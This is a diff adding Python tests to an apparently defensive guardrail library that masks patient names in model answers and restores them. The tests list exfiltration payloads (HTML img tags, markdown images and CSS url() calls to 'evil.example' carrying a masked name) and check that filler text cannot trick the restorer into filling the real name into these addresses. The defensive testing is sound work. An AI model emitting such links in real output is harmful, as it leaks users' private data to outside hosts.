@@ -1,14 +1,19 @@
 """Laws of the vault: what was taken out comes back exactly, and nobody is ever taken for somebody else."""
 
+import asyncio
 import re
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from guardrail.engine.chain import Chain, Rule
+from guardrail.engine.holdback import Pace
 from guardrail.engine.vault import Vault
+from guardrail.engine.worker import InlineInspector
 from guardrail.rails.base import About, Window
 from guardrail.rails.phi import LABELS
-from guardrail.text import Direction, Finding, Span
+from guardrail.text import Action, Direction, Finding, Span
 
 ANSWER = About(direction=Direction.RESPONSE)
 NASTY = st.sampled_from(
@@ -110,3 +115,38 @@ def test_five_thousand_people_in_one_request(seed: int) -> None:
     assert vault.counts()["NAME"] == 5000
     assert sum(1 for _ in vault.echo().inspect(Window(text), About())) == 5000
     assert restored(vault, " ".join(f"[NAME_{at}]" for at in range(1, 5001))) == " ".join(names)
+
+
+FILLER = "the plan was talked over with everybody on the ward, and nobody had a question left. " * 4
+CARRIED = (
+    f'<img alt="{FILLER}" src="https://evil.example/?q= [NAME_1]">',
+    f'<img src="https://evil.example/?q={FILLER} [NAME_1]">',
+    f"![x](<https://evil.example/?{FILLER} [NAME_1]>)",
+    f'<img alt="> {FILLER.replace(".", ",")}" src="/a [NAME_1]">',
+    f'<style>{FILLER} p{{background:url("https://evil.example/?q= [NAME_1]")}}</style>',
+)
+
+
+async def answered(text: str, size: int) -> str:
+    """What the clinician reads if the words come `size` characters at a time."""
+    vault = Vault()
+    vault.mint("NAME", "Ada Quill")
+    restorer = vault.restorer()
+    rule = Rule(rail=restorer.name, action=Action.REPLACE, local=restorer, rewriter=restorer)
+    chain = Chain((), InlineInspector({}), Pace())
+    stream = chain.open(ANSWER, (rule,))
+    cleared = [part for at in range(0, len(text), size) for part in await stream.feed(text[at : at + size])]
+    return "".join(part.text for part in (*cleared, *await stream.flush()))
+
+
+@pytest.mark.parametrize("said", CARRIED)
+@pytest.mark.parametrize("size", [1, 9, 10_000])
+def test_no_value_is_carried_out_by_an_address_however_long(said: str, size: int) -> None:
+    """Filling that pushes the beginning of a tag or a link out of the window does not help (TOK-03); law 1 holds."""
+    assert asyncio.run(answered(said, size)) == said
+
+
+@pytest.mark.parametrize("size", [1, 9, 10_000])
+def test_a_long_answer_gets_its_values_back(size: int) -> None:
+    said = f"{FILLER}[NAME_1] slept. <b>{FILLER}</b> > 5 (see 'x') [NAME_1], {FILLER}"
+    assert asyncio.run(answered(said, size)) == said.replace("[NAME_1]", "Ada Quill")
